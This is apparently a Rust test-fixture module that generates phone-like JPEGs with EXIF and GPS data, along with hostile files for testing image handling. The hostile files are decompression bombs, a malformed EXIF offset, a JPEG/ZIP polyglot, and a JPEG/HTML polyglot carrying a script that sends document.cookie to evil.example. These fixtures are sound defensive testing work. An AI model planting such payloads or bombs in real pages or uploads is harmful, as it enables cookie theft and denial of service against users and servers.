//! Photos for tests, made on the spot: phone-like JPEGs with EXIF, and hostile files.

use exif::{Field, In, Rational, Tag, Value};
use flate2::Compression;
use flate2::Crc;
use flate2::write::ZlibEncoder;
use std::io::Write;

/// EXIF as a phone camera writes it.
#[derive(Debug, Clone)]
pub struct PhoneExif {
    /// EXIF orientation 1–8.
    pub orientation: u16,
    /// `YYYY:MM:DD HH:MM:SS`.
    pub taken: &'static str,
    /// Latitude, longitude in degrees.
    pub gps: (f64, f64),
    /// Whether the hemispheres (`GPSLatitudeRef`, `GPSLongitudeRef`) are written, as every
    /// camera does.
    pub gps_refs: bool,
}

impl Default for PhoneExif {
    fn default() -> Self {
        Self {
            orientation: 6,
            taken: "2026:11:20 09:15:30",
            gps: (-2.803_472, 120.401_736),
            gps_refs: true,
        }
    }
}

fn dms(degrees: f64) -> Vec<Rational> {
    let degrees = degrees.abs();
    let d = degrees.trunc();
    let m = ((degrees - d) * 60.0).trunc();
    let s = (degrees - d - m / 60.0) * 3600.0;
    #[expect(
        clippy::cast_possible_truncation,
        clippy::cast_sign_loss,
        reason = "small positive values"
    )]
    let r = |v: f64, den: u32| Rational::from(((v * f64::from(den)).round() as u32, den));
    vec![r(d, 1), r(m, 1), r(s, 10_000)]
}

/// The TIFF body of an EXIF segment (what follows `Exif\0\0`).
#[must_use]
pub fn exif_tiff(exif: &PhoneExif) -> Vec<u8> {
    let fields: Vec<Field> = [
        Field {
            tag: Tag::Make,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![b"samsung".to_vec()]),
        },
        Field {
            tag: Tag::Model,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![b"SM-A155F".to_vec()]),
        },
        Field {
            tag: Tag::Orientation,
            ifd_num: In::PRIMARY,
            value: Value::Short(vec![exif.orientation]),
        },
        Field {
            tag: Tag::DateTimeOriginal,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![exif.taken.as_bytes().to_vec()]),
        },
        Field {
            tag: Tag::GPSLatitudeRef,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![if exif.gps.0 < 0.0 { b"S" } else { b"N" }.to_vec()]),
        },
        Field {
            tag: Tag::GPSLatitude,
            ifd_num: In::PRIMARY,
            value: Value::Rational(dms(exif.gps.0)),
        },
        Field {
            tag: Tag::GPSLongitudeRef,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![if exif.gps.1 < 0.0 { b"W" } else { b"E" }.to_vec()]),
        },
        Field {
            tag: Tag::GPSLongitude,
            ifd_num: In::PRIMARY,
            value: Value::Rational(dms(exif.gps.1)),
        },
    ]
    .into_iter()
    .filter(|f| exif.gps_refs || !matches!(f.tag, Tag::GPSLatitudeRef | Tag::GPSLongitudeRef))
    .collect();
    let mut writer = exif::experimental::Writer::new();
    for field in &fields {
        writer.push_field(field);
    }
    let mut out = std::io::Cursor::new(Vec::new());
    writer.write(&mut out, false).expect("writing EXIF");
    out.into_inner()
}

/// A picture: a scene drawn from `seed` (different seeds, different scenes).
#[must_use]
pub fn pixels(width: u16, height: u16, seed: u32) -> Vec<u8> {
    let mut out = Vec::with_capacity(usize::from(width) * usize::from(height) * 3);
    let (w, h) = (f64::from(width), f64::from(height));
    let s = f64::from(seed);
    for y in 0..height {
        for x in 0..width {
            let (fx, fy) = (f64::from(x) / w, f64::from(y) / h);
            let wall = ((fx * (3.0 + s)).sin() * (fy * (2.0 + s * 0.7)).cos() + 1.0) * 0.5;
            let roof = if fy < 0.3 + 0.1 * (fx * 6.0 + s).sin() {
                1.0
            } else {
                0.0
            };
            let plank = ((fy * 90.0 + s).sin() + 1.0) * 0.08;
            #[expect(
                clippy::cast_possible_truncation,
                clippy::cast_sign_loss,
                reason = "values are clamped to 0–255"
            )]
            let channel = |v: f64| (v * 255.0).clamp(0.0, 255.0) as u8;
            out.push(channel(0.2 + 0.6 * wall + plank));
            out.push(channel(0.3 + 0.4 * roof + plank));
            out.push(channel(0.25 + 0.5 * (1.0 - wall) * (1.0 - roof)));
        }
    }
    out
}

/// A picture of 8 × 6 blocks of colours drawn from `seed`: the perceptual hashes of two
/// seeds differ in about half their bits, so no two such photos look alike.
#[must_use]
pub fn blocks(width: u16, height: u16, seed: u64) -> Vec<u8> {
    use rand::{Rng, SeedableRng};
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    let colours: Vec<[u8; 3]> = (0..48).map(|_| rng.random()).collect();
    let mut out = Vec::with_capacity(usize::from(width) * usize::from(height) * 3);
    for y in 0..usize::from(height) {
        for x in 0..usize::from(width) {
            let block = (y * 6 / usize::from(height)) * 8 + x * 8 / usize::from(width);
            out.extend(colours[block]);
        }
    }
    out
}

/// A JPEG of `width` × `height` pixels (RGB) with the given EXIF (none when `None`).
#[must_use]
pub fn jpeg_of(
    pixels: &[u8],
    width: u16,
    height: u16,
    exif: Option<&PhoneExif>,
    quality: u8,
) -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = jpeg_encoder::Encoder::new(&mut out, quality);
    if let Some(exif) = exif {
        let mut segment = b"Exif\0\0".to_vec();
        segment.extend(exif_tiff(exif));
        encoder.add_app_segment(1, &segment).expect("EXIF segment");
    }
    encoder
        .encode(pixels, width, height, jpeg_encoder::ColorType::Rgb)
        .expect("encoding");
    out
}

/// A JPEG of `width` × `height` with the given EXIF (none when `None`).
#[must_use]
pub fn jpeg(width: u16, height: u16, seed: u32, exif: Option<&PhoneExif>, quality: u8) -> Vec<u8> {
    jpeg_of(&pixels(width, height, seed), width, height, exif, quality)
}

/// A progressive JPEG with full-resolution colour (4:4:4), as some phones and editors save
/// them: its decoder keeps every coefficient of the picture until the last scan.
#[must_use]
pub fn progressive_jpeg(width: u16, height: u16, seed: u32) -> Vec<u8> {
    let mut out = Vec::new();
    let mut encoder = jpeg_encoder::Encoder::new(&mut out, 85);
    encoder.set_progressive(true);
    encoder.set_sampling_factor(jpeg_encoder::SamplingFactor::R_4_4_4);
    encoder
        .encode(
            &pixels(width, height, seed),
            width,
            height,
            jpeg_encoder::ColorType::Rgb,
        )
        .expect("encoding");
    out
}

/// A JPEG whose EXIF segment has an IFD offset pointing far outside the segment.
#[must_use]
pub fn jpeg_with_broken_exif() -> Vec<u8> {
    let mut tiff = b"II*\0".to_vec();
    tiff.extend(0x00FF_FFF0u32.to_le_bytes());
    jpeg_with_exif_tiff(&tiff)
}

/// A 320 × 240 JPEG whose EXIF segment holds `tiff` as it is.
#[must_use]
pub fn jpeg_with_exif_tiff(tiff: &[u8]) -> Vec<u8> {
    let mut segment = b"Exif\0\0".to_vec();
    segment.extend(tiff);
    let mut out = Vec::new();
    let mut encoder = jpeg_encoder::Encoder::new(&mut out, 85);
    encoder.add_app_segment(1, &segment).expect("segment");
    encoder
        .encode(&pixels(320, 240, 9), 320, 240, jpeg_encoder::ColorType::Rgb)
        .expect("encoding");
    out
}

/// A tiny JPEG header declaring `width` × `height`, with next to no data: a decompression
/// bomb dressed as a photo.
#[must_use]
pub fn jpeg_bomb(width: u16, height: u16) -> Vec<u8> {
    let mut small = jpeg(16, 16, 1, None, 80);
    // The frame header (SOF0) holds height then width after the precision byte.
    let sof = marker_at(&small, 0xC0);
    small[sof + 5..sof + 7].copy_from_slice(&height.to_be_bytes());
    small[sof + 7..sof + 9].copy_from_slice(&width.to_be_bytes());
    small
}

fn png_chunk(out: &mut Vec<u8>, kind: [u8; 4], data: &[u8]) {
    out.extend(
        u32::try_from(data.len())
            .expect("small chunk")
            .to_be_bytes(),
    );
    let mut crc = Crc::new();
    crc.update(&kind);
    crc.update(data);
    out.extend(&kind);
    out.extend(data);
    out.extend(crc.sum().to_be_bytes());
}

/// A valid PNG of `side` × `side` black pixels: a few kilobytes that decode to gigabytes.
#[must_use]
pub fn png_bomb(side: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend(side.to_be_bytes());
    ihdr.extend(side.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    png_chunk(&mut out, *b"IHDR", &ihdr);
    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
    let row = vec![0u8; 1 + side as usize * 3];
    // Only the first rows: enough to look real, small to make.
    for _ in 0..64 {
        z.write_all(&row).expect("compressing");
    }
    png_chunk(&mut out, *b"IDAT", &z.finish().expect("compressing"));
    png_chunk(&mut out, *b"IEND", &[]);
    out
}

/// A small ZIP archive (one stored file), as appended to make a JPEG/ZIP polyglot.
#[must_use]
pub fn zip_archive() -> Vec<u8> {
    let name = b"run.sh";
    let body = b"#!/bin/sh\necho pwned\n";
    let mut crc = Crc::new();
    crc.update(body);
    let crc = crc.sum();
    let len = u32::try_from(body.len()).expect("small");
    let name_len = u16::try_from(name.len()).expect("small");
    let mut out = Vec::new();
    out.extend(b"PK\x03\x04");
    out.extend(20u16.to_le_bytes()); // version needed
    out.extend([0u8; 2 + 2 + 2 + 2]); // flags, method (stored), time, date
    out.extend(crc.to_le_bytes());
    out.extend(len.to_le_bytes());
    out.extend(len.to_le_bytes());
    out.extend(name_len.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out.extend(name);
    out.extend(body);
    let directory = out.len();
    out.extend(b"PK\x01\x02");
    out.extend(20u16.to_le_bytes());
    out.extend(20u16.to_le_bytes());
    out.extend([0u8; 2 + 2 + 2 + 2]);
    out.extend(crc.to_le_bytes());
    out.extend(len.to_le_bytes());
    out.extend(len.to_le_bytes());
    out.extend(name_len.to_le_bytes());
    out.extend([0u8; 2 + 2 + 2 + 2 + 4]);
    out.extend(0u32.to_le_bytes()); // offset of the entry
    out.extend(name);
    let directory_len = u32::try_from(out.len() - directory).expect("small");
    out.extend(b"PK\x05\x06");
    out.extend([0u8; 4]);
    out.extend(1u16.to_le_bytes());
    out.extend(1u16.to_le_bytes());
    out.extend(directory_len.to_le_bytes());
    out.extend(u32::try_from(directory).expect("small").to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// A JPEG with a comment segment holding a script: a JPEG/HTML polyglot.
#[must_use]
pub fn jpeg_with_script_comment() -> Vec<u8> {
    let photo = jpeg(64, 48, 2, None, 80);
    let comment = b"<script>fetch('//evil.example/'+document.cookie)</script>";
    let mut out = photo[..2].to_vec();
    out.extend([0xFF, 0xFE]);
    out.extend(
        u16::try_from(comment.len() + 2)
            .expect("small")
            .to_be_bytes(),
    );
    out.extend(comment);
    out.extend(&photo[2..]);
    out
}

/// The first bytes of a HEIC file from an iPhone (an ISO-BMFF `ftyp` box, brand `heic`).
#[must_use]
pub fn heic_header() -> Vec<u8> {
    let mut out = Vec::new();
    out.extend(24u32.to_be_bytes());
    out.extend(b"ftypheic");
    out.extend(0u32.to_be_bytes());
    out.extend(b"mif1heic");
    out.extend(b"\0\0\0\x08free");
    out
}

/// A JPEG whose frame header (`marker`: 0xC0 baseline, 0xC2 progressive, 0xC3 lossless…)
/// declares `width` × `height`, with a picture's worth of nothing behind it.
#[must_use]
pub fn jpeg_frame_header(marker: u8, width: u16, height: u16) -> Vec<u8> {
    let mut out = jpeg_bomb(width, height);
    let sof = marker_at(&out, 0xC0);
    out[sof + 1] = marker;
    out
}

/// Where the first `FF code` marker of a JPEG is.
///
/// # Panics
/// When the JPEG has none.
#[must_use]
pub fn marker_at(jpeg: &[u8], code: u8) -> usize {
    jpeg.windows(2)
        .position(|w| w == [0xFF, code])
        .unwrap_or_else(|| panic!("a JPEG with a {code:#04x} marker"))
}

/// Random-looking bytes, as compressed video is.
#[must_use]
pub fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    (0..len)
        .map(|_| {
            // xorshift64*
            state ^= state >> 12;
            state ^= state << 25;
            state ^= state >> 27;
            state.wrapping_mul(0x2545_F491_4F6C_DD1D).to_be_bytes()[0]
        })
        .collect()
}
